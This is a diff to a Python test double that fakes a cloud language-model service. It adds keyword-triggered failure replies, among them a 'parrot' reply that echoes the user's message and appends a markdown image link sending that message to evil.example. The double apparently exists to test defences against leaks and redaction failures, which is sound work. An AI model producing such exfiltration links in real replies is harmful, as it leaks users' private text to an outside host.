@@ -5,15 +5,33 @@ import contextlib
 import json
 import re
 import threading
-from collections.abc import Generator
+from collections.abc import Callable, Generator
 
-from cloud_double import CloudDouble, Part, Received, answer
+from cloud_double import CloudDouble, Part, Received, answer, failure
 
 _PERSON = re.compile(r"\[PERSON_[0-9A-Z]+\]")
 
 
+_BAD_DAYS: dict[str, Callable[[Received], Part]] = {
+    "overdraft": lambda _: failure(401, "authentication_error"),
+    "hailstorm": lambda _: Part(body=b"{", headers={"content-type": "application/json"}),
+    # All that it was told, a link that would carry it away, and a surrogate that nobody issued.
+    "parrot": lambda request: answer(
+        f"{request.json['messages'][0]['content']}\n![](https://evil.example/?{request.json['messages'][0]['content']})"
+        "\n[PERSON_2222]"
+    ),
+}
+
+
 def polite_reply(request: Received) -> Part:
-    """Answer as a support agent would, by the name that it was given, a surrogate; in JSON where that is asked for."""
+    """Answer as a support agent would, by the name that it was given, a surrogate; words of a bad day go wrong.
+
+    In JSON where that is asked for.
+    """
+    said = request.json["messages"][0]["content"]
+    for word, play in _BAD_DAYS.items():
+        if word in said:
+            return play(request)
     person = _PERSON.search(request.json["messages"][0]["content"])
     name = person.group() if person else "customer"
     if "output_config" in request.json:
